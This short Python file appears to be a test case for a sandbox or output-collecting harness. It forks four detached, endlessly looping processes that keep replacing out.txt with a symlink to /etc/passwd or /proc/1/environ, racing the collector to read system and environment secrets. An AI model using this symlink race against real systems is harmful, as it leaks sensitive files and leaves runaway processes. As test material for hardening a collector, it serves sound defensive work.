# Tries: to change a file into a link while it is collected: whatever goes on, does not
# Gets: going on
# Collects: out.txt
import os

for _ in range(4):
    if os.fork() == 0:
        os.setsid()
        while True:
            for target in ("/etc/passwd", "/proc/1/environ"):
                try:
                    os.symlink(target, "new")
                    os.rename("new", "out.txt")
                except OSError:
                    pass
print("going on")
